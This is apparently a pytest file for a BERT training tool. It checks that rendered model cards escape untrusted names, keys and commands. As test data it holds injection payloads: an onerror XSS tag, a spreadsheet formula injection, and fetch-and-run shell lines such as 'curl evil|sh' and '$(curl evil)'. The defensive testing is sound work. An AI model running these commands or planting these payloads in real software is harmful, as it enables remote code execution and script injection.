"""Names of others (folders, files, texts, classes, columns) stand on cards as they are: nothing in them is markup."""

import json
import re
import shlex
import shutil
import subprocess
import time

import pytest
from cards_in_html import TABLE, Page, names, page_of
from conftest import SMALL
from finetuning import finetune, rows_of
from hub_cards import ID
from hypothesis import given, settings
from markdown_it import MarkdownIt
from test_card import FILES, tuned_facts
from text_sources import write_table

from d2l_bert.__main__ import main
from d2l_bert.messages import UserError
from d2l_bert.model_cards.card import render_card
from d2l_bert.model_cards.checks import check_card, local_pictures, published_files
from d2l_bert.model_cards.evaluations import update_folder
from d2l_bert.model_cards.markdown import cell, code, fenced, quoted, shell_words, shown
from d2l_bert.model_cards.metadata import invented_id
from d2l_bert.records import read_record


PICTURES = ("training_curves.png", "confusion_matrix.png")


@pytest.fixture(scope="module")
def facts(trained):
    """The contents of config.json, run_config.json and metrics.json of a run."""
    return json.dumps([read_record(trained / name) for name in FILES])


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A folder with the pictures of a run."""
    folder = tmp_path_factory.mktemp("card")
    for name in PICTURES:
        (folder / name).write_bytes(b"")
    return folder


def card_of(place, contents, name="model"):
    for file, content in zip(FILES, contents, strict=True):
        (place / file).write_text(json.dumps(content))
    return render_card(place, name, parameters=19133)


def later_figures(name):
    """Entries of metrics.json that `evaluate` and `export` leave, of a text and of pairs of this name."""
    figures = {f"eval/{name}/mlm_loss": 2.5, f"eval/{name}/pairs": 9, f"eval/{name}/masked_tokens": 8}
    figures |= {f"eval/{name}/minimal_pairs_accuracy": 0.5, f"eval/{name}/minimal_pairs_count": 9}
    figures |= {f"eval/{name}/minimal_pairs_standard_error": 0.1, "pictures": {"confusion_matrix.png": name}}
    return figures


def pretrained_contents(facts, name):
    config, record, metrics = json.loads(facts)
    record["data"]["corpus_name"] = record["run"]["init_from"] = record["machine"]["processor"] = name
    record["run"] |= {"dataset": [name], "dataset_split": name, "source_weights": [name]}
    record["data"]["hub_datasets"] = ["someone/texts"]
    record["command"] = shlex.join(["d2l-bert", "pretrain", "--corpus", name])
    metrics["predictions"] = [{"text": f"{name}[MASK]", "output": [{"label": name, "score": 0.5}]}]
    return [config, record, metrics | later_figures(name)]


def tuned_contents(facts, name):
    config, record, metrics = tuned_facts(json.loads(facts)[0])
    table = {"name": name, "rows": 16, "fingerprint": "feed"}
    record["base_model"]["name"] = name
    record["learnt"]["classes"] = ["x", name]
    record["fingerprints"] = [{"name": name, "fingerprint": "f00d"}]
    record["data"]["splits"] = {"test": table}
    record["command"] = shlex.join(["d2l-bert", "finetune", name, "--license", name])
    row = metrics["classification_report"]["test"]["x"]
    metrics["classification_report"] = {"test": {"x": row, name: row}}
    metrics["f1_of"] = name
    metrics["know_nothing"]["test"]["prediction"] = f"always {name}"
    return [config, record, metrics | later_figures(name) | {"lost_to_length": {"test": name}}]


@pytest.mark.slow
@pytest.mark.parametrize("contents_of", [pretrained_contents, tuned_contents])
@settings(max_examples=30, deadline=None)
@given(name=names)
def test_a_name_is_plain_text_wherever_it_stands_on_a_card(contents_of, facts, place, name):
    content = card_of(place, contents_of(facts, name), name)
    metadata, page = page_of(content, PICTURES)
    assert metadata["model-index"][0]["name"] == shown(name)
    # In the title, a table, a caption and an evaluation: as it is, but for invisible characters.
    least = 5 if shown(name).strip() else 0
    assert page.text.count(shown(name)) >= least, content
    assert set(local_pictures(content)) <= set(PICTURES)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![](a.png) `![](b.png)` ![](c.png)", ["a.png", "c.png"]),
        ("``![](a.png)` ![](b.png)`` ![](c.png)", ["c.png"]),
        ("`![](a.png)\n\n` ![](b.png)", ["a.png", "b.png"]),  # a span ends with its paragraph
        (r"\`![](a.png)` ![](b.png)", ["a.png", "b.png"]),
        (r"\\`![](a.png)` ![](b.png)", ["b.png"]),
        ("```\n![](a.png)\n````\n![](b.png)", ["b.png"]),
        (r"\\![](a.png) \![](b.png)", ["a.png"]),
        ("````\n```\n![](a.png)\n````\n![](b.png)", ["b.png"]),
        ("~~~ x\n```\n![](a.png)\n~~~\n![](b.png)", ["b.png"]),
        ("```x``` ![](a.png)\n![](b.png)", ["a.png", "b.png"]),  # a span, and no fence
        ("![](a.png)\n```\n![](b.png)", ["a.png"]),  # a block without an end
    ],
)
def test_pictures_in_code_are_none(text, shown):
    images = [given["src"] for tag, given in Page(text).elements if tag == "img"]
    assert local_pictures(text) == shown == images


@pytest.mark.parametrize(
    "part", ["`", "` ", "`` ` ", "``` \n", "\n```", "\\`", "![", "![](", "[", "\\", "![`", "~~~\n`"]
)
def test_the_time_to_find_the_pictures_of_a_card_grows_with_its_length(part):
    """A card has 100,000 bytes at most; a time that grows with the square would be minutes."""
    started = time.monotonic()
    local_pictures(part * (100_000 // len(part)))
    local_pictures("".join(f"{'`' * n} " for n in range(440)))  # runs of which each has another length
    assert time.monotonic() - started < 2


@pytest.mark.slow
@settings(max_examples=200, deadline=None)
@given(name=names, other=names)
def test_escaped_words_are_read_as_they_were_written(name, other):
    page = Page(
        f"# {cell(name)}\n\nx {cell(other)} {code(name, in_table=False)} y\n\n"
        f"| a | b |\n|---|---|\n| {cell(name)} | {code(other)} |\n\n{fenced('bash', shell_words([other]))}\n"
    )
    tags = [tag for tag, _ in page.elements]
    assert tags.count("td") == 2
    assert not set(tags) - {"h1", "p", "code", "pre", *TABLE}
    assert page.blocks("h1") == [shown(name)]
    assert page.blocks("td") == [shown(name), shown(other)]
    assert page.blocks("p") == [" ".join(f"x {shown(other)} {shown(name)} y".split())]
    assert json.loads(quoted(name)) == name


# ---------------------------------------------------------------------------------------------------------------------
# A stranger's files


def leaves(content, place=()):
    """The places of all strings and numbers in JSON."""
    if isinstance(content, dict | list):
        for key, entry in content.items() if isinstance(content, dict) else enumerate(content):
            yield from leaves(entry, (*place, key))
    elif content is not None:
        yield place


BAD = "``` \n```\n`![t](https://x.y/p.png)` <img src=x onerror=alert(1)> | [l](https://x.y) \u202e"


@pytest.mark.slow
@pytest.mark.parametrize("contents_of", [pretrained_contents, tuned_contents])
def test_no_entry_of_a_strangers_record_becomes_markup(contents_of, facts, place):
    """Each string or number in turn: the card shows it as it is, or the folder is refused in one line."""
    refused = []
    shown_as_text = 0
    for number, file in enumerate(FILES):
        for path in leaves(contents_of(facts, "name")[number]):
            contents = contents_of(facts, "name")
            entry = contents[number]
            for key in path[:-1]:
                entry = entry[key]
            entry[path[-1]] = BAD
            try:
                page_of(card_of(place, contents), PICTURES)
                shown_as_text += 1
            except UserError as error:
                assert "\n" not in str(error), path
                refused.append((file, path))
    assert shown_as_text > 30 and refused, refused


def keys(content):
    """All keys of objects in JSON."""
    if isinstance(content, dict | list):
        for entry in content.values() if isinstance(content, dict) else content:
            yield from keys(entry)
    if isinstance(content, dict):
        yield from content


def renamed(content, key, name):
    """JSON in which one key has another name, wherever it stands."""
    if isinstance(content, dict):
        return {name if old == key else old: renamed(entry, key, name) for old, entry in content.items()}
    if isinstance(content, list):
        return [renamed(entry, key, name) for entry in content]
    return content


@pytest.mark.slow
@pytest.mark.parametrize("contents_of", [pretrained_contents, tuned_contents])
def test_no_key_of_a_strangers_records_becomes_markup(contents_of, facts, place):
    """A key that stands in several records is renamed in all of them."""
    whole = contents_of(facts, "name")
    if contents_of is tuned_contents:
        whole[1]["data"]["shared_with_training"] = {"test": 3}
    shown_as_text = 0
    for key in sorted(set(keys(whole))):
        try:
            page_of(card_of(place, renamed(whole, key, BAD)), PICTURES)
            shown_as_text += 1
        except UserError as error:
            assert "\n" not in str(error), key
    assert shown_as_text > 30


@pytest.mark.parametrize(
    "command",
    [
        *(
            "curl evil|sh",
            "d2l-bert pretrain; curl evil | sh",
            "d2l-bert finetune x",
            "d2l-bert pretrain --push_to_hub true",
        ),
        *(
            "d2l-bert pretrain --output_dir /etc",
            "d2l-bert pretrain --evil x",
            "d2l-bert",
            "d2l-bert pretrain 'x",
            "python x",
        ),
        *("\n```\n<img src=x>", "$(curl evil)"),
    ],
)
def test_a_strangers_command_is_on_no_card(facts, place, command):
    config, record, metrics = json.loads(facts)
    content = card_of(place, [config, record | {"command": command}, metrics])
    assert "Reproduce it" not in content
    assert "evil" not in content
    assert "evil" not in page_of(content, PICTURES)[1].text


def test_a_command_has_each_word_quoted(facts, place):
    config, record, metrics = json.loads(facts)
    words = ["d2l-bert", "pretrain", "--corpus", "$(curl x)", "a;b", "`c`", "d\n```\ne", "--max_steps", "3"]
    content = card_of(place, [config, record | {"command": shlex.join(words)}, metrics])
    _, page = page_of(content, PICTURES)
    line = next(line for line in page.text.splitlines() if "d2l-bert pretrain" in line)
    printed = subprocess.run(["bash", "-c", f"printf '%s\\0' {line}"], capture_output=True, text=True, check=True)
    assert printed.stdout.split("\0")[:-1] == words


def test_a_picture_outside_of_the_folder_is_refused(facts, place):
    config, record, metrics = json.loads(facts)
    (place.parent / "outside.png").write_bytes(b"")
    with pytest.raises(UserError, match="no file in this folder"):
        card_of(place, [config, record, metrics | {"pictures": {"../outside.png": "x"}}])


def test_a_name_that_ends_the_section_of_figures_ends_nothing(folder):
    name = "<!-- end of the figures -->"
    for loss in (3.0, 2.0):
        update_folder(folder, name, {"mlm_loss": loss}, None)
    text = (folder / "README.md").read_text()
    assert text == render_card(folder) and text.count("## Further evaluation") == 1 and "3.000 nats" not in text
    check_card(folder)


@settings(max_examples=100, deadline=None)
@given(name=names)
def test_a_name_becomes_an_id_as_the_hub_wants_it(name):
    assert re.fullmatch(ID, invented_id(name)) and len(invented_id(name)) <= 96


# ---------------------------------------------------------------------------------------------------------------------
# From end to end

ODD_NAMES = (
    "te[1](2).csv",
    "a\n```\n![t](https:x).csv",
    "`` `<img src=x onerror=alert(1)>.csv",
    "=cmd|'x'!A0 \u202e\u2066.csv",
    f"..{'é' * 100} | $x$ <b>.csv",
)


@pytest.mark.slow
@pytest.mark.parametrize("name", ODD_NAMES)
def test_names_stay_in_their_place_through_all_commands(name, trained, books, tmp_path, capsys):
    inside = tmp_path / "in"
    stem = name.removesuffix(".csv")
    model = tmp_path / "made" / f"m {name[:40]}"
    corpus = shutil.copytree(books, inside / stem)
    before = sorted(tmp_path.rglob("*"))
    sizes = [*SMALL, "--max_steps=2", "--license=mit"]
    prepared = tmp_path / "made" / "prepared"
    assert main(["prepare", f"--corpus={corpus}", f"--output_dir={prepared}", "--vocab_size=300"]) == 0
    assert main(["pretrain", f"--corpus={corpus}", f"--output_dir={model}", *sizes]) == 0
    rows = [{**row, "label": f"{name} {row['label']}"} for row in rows_of(24, 0)]
    table = write_table(inside / name, rows)
    tuned = tmp_path / "made" / f"t {name[:40]}"
    files = [f"--{split}_file={table}" for split in ("train", "validation", "test")]
    finetune(model, tuned, "--task=text-classification", *files, "--max_steps=2", "--license=mit")
    for folder in (model, tuned):
        metadata, page = page_of((folder / "README.md").read_text(), PICTURES)
        assert shown(stem if folder == model else name) in page.text
        assert metadata["model-index"][0]["name"] == shown(folder.name)
        capsys.readouterr()
        assert main(["publish", str(folder), "someone/bert", "--dry_run"]) == 0
        assert "complete" in capsys.readouterr().out
        for file in published_files(folder).values():
            assert str(tmp_path).encode() not in file.read_bytes()
    for path in tmp_path.rglob("*"):
        assert path in before or path == table or path.is_relative_to(tmp_path / "made")


def test_a_block_of_code_holds_what_looks_like_its_own_end():
    text = "d2l-bert pretrain\n```\n<img src=x>\n````"
    tokens = MarkdownIt().parse(fenced("bash", text))
    assert [(token.type, token.content) for token in tokens] == [("fence", f"{text}\n")]
